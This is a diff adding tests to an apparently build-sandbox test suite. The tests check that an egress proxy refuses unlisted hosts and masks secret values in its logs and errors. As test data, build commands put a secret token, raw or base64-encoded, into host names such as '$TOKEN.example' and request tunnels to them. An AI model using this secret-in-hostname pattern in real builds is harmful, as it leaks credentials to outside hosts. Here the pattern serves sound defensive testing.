@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import asyncio
+import base64
 import contextlib
+import json
 import re
 import shutil
 from dataclasses import dataclass, field
@@ -72,6 +74,63 @@ async def test_refused_host_is_in_the_log_and_in_the_error(control, slot, world)
     assert job.stage("network") == [f"egress: refused {refused}"]
     assert any("response 403" in line for line in job.stage("build"))
     assert f"Its network: refused {refused}." in job.outcome["error"]["message"]
+
+
+CANARY = "Canary_7D1f-Zq9"  # as a host is named; so is its base64, without an odd end
+
+
+def asking(*hosts):
+    """A command that asks the proxy for tunnels to hosts, as the shell reads their names."""
+    code = (
+        "import socket, sys\n"
+        "for host in sys.argv[1:]:\n"
+        '    s = socket.create_connection(("127.0.0.1", 3128))\n'
+        '    s.send(f"CONNECT {host} HTTP/1.1\\r\\n\\r\\n".encode())\n'
+        "    s.recv(4096)\n"
+        "    s.close()"
+    )
+    return f"""python3 -c '{code}' {" ".join(f'"{host}"' for host in hosts)}"""
+
+
+def declaring(command):
+    text = f"[build]\ncommand = '''{command}'''\noutput = 'dist'\nvariables = ['TOKEN']\n"
+    return {"managed.toml": text.encode()}
+
+
+async def test_host_that_has_a_secret_in_its_name_is_shown_without(control, slot):
+    """Names of hosts come in lower case to the proxy, and from programs too."""
+    control.egress = allowing(("registry.example", 443))
+    control.given = {"secrets": {"TOKEN": CANARY}}
+    encoded = "$(printf %s $TOKEN | base64)"
+    hosts = ("$TOKEN.example:443", f"{encoded}.example:443", "a.$TOKEN.example:80")
+    lower = 'echo "$TOKEN" | tr A-Z a-z'
+    job = await control.build(declaring(f"{lower}; {asking(*hosts, hosts[0])}; false"))
+    refused = [
+        f"refused {host} (not in builders.egress_allow)"
+        for host in ("***.example:443", "***.example:443", "a.***.example:80")
+    ]
+    assert job.stage("network") == [
+        *(f"egress: {each}" for each in refused),
+        f"egress: {refused[0]}, 2 times in all",
+    ]
+    assert f"Its network: {', '.join(refused)}." in job.outcome["error"]["message"]
+    assert "***" in job.stage("build"), "programs say such names so, too"
+    said = (json.dumps(job.outcome) + "\n".join(job.text)).lower()
+    for spelling in (CANARY, base64.b64encode(CANARY.encode()).decode()):
+        assert spelling.lower() not in said
+
+
+@needs_curl
+async def test_address_that_is_a_secret_shows_in_no_figure_of_what_passed(control, slot, world):
+    port, asked = world
+    control.egress = allowing(("127.0.0.1/32", port))
+    control.given = {"secrets": {"TOKEN": "127.0.0.1"}}
+    fetch = f"{CURL} --proxytunnel http://$TOKEN:{port}/ > dist/a"
+    job = await control.build(declaring(f"mkdir dist && {fetch}"))
+    assert job.outcome["status"] == "succeeded", job.text
+    assert len(asked) == 1
+    (line,) = job.stage("network")
+    assert line.startswith(f"egress: ***:{port}: 1 connection, ")
 
 
 @needs_curl
